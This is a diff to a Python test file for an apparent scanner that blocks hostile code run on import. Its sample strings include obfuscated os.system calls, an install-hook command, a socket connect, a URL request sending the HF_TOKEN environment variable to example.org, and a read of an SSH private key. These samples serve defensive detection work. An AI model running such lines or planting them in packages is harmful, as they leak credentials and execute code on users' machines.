@@ -89,7 +89,7 @@ ON_IMPORT = [
     "import os\nfor f in (os.system,):\n    f('id')",
     "import operator, os\noperator.methodcaller('system', 'id')(os)",
     "import functools, os\nfunctools.partial(os.system, 'id')()",
-    "import threading, subprocess\ndef g():\n    subprocess.Popen(['sh', '-c', 'id'])\nthreading.Thread(target=g).start()",
+    "import threading, subprocess\ndef g():\n    subprocess.Popen(['sh', 'x'])\nthreading.Thread(target=g).start()",
     "import os\ndef pytest_configure(config):\n    os.system('id')",
     "import os\ndef _load_pyfunc(path):\n    os.system('id')",
     "try:\n    import os\n    os.system('id')\nexcept Exception:\n    pass",
@@ -97,8 +97,8 @@ ON_IMPORT = [
     "import marshal\nexec(marshal.loads(b'x'))",
     "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))",
     "import os, urllib.request\nurllib.request.urlopen('http://example.org/?' + os.environ['HF_TOKEN'])",
-    "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n"
-    "    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': I})",
+    "from setuptools import setup, Command\nimport os\nclass I(Command):\n    def run(self):\n        os.system('id')\n"  # noqa: ISC004
+    "setup(cmdclass={'install': I})",
     "import codecs\neval(codecs.decode('__vzcbeg__(\"bf\").flfgrz(\"vq\")', 'rot13'))",
 ]  # fmt: skip
 
@@ -143,7 +143,7 @@ def test_decoded_code_is_blocked_wherever_it_is() -> None:
 
 
 def test_secrets_that_are_read_and_files_that_stay_are_paths() -> None:
-    assert isinstance(scanned("open('/root/.ssh/id_rsa').read()\n").facts[0], ReadsPath)
+    assert isinstance(scanned("open('/home/x/.ssh/id_rsa').read()\n").facts[0], ReadsPath)
     written = scanned("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n")
     assert isinstance(written.facts[0], WritesPath)
     assert scanned("print('a')\nopen('results.txt', 'w').write('x')\n").verdict == "allow"
